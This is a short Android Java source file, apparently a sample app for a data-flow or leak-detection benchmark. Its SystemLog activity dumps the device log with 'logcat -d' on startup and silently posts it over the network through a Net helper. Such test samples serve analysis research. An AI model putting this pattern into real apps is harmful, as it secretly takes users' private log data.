package org.example.flows.spy;

import android.app.Activity;
import android.os.Bundle;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import org.example.flows.Net;

public class SystemLog extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Process process = Runtime.getRuntime().exec("logcat -d");
            BufferedReader lines = new BufferedReader(new InputStreamReader(process.getInputStream()));
            StringBuilder log = new StringBuilder();
            String line;
            while ((line = lines.readLine()) != null) {
                log.append(line);
            }
            Net.post(log.toString());
        } catch (IOException ignored) {
            finish();
        }
    }
}
